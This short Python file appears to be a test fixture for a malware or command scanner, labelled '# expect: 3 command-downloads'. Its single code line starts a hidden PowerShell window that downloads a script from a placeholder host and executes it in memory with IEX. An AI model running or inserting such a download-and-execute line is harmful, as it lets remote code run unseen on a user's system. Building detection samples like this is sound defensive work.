# expect: 3 command-downloads
import subprocess
subprocess.Popen("powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://h.invalid/a')", shell=True)
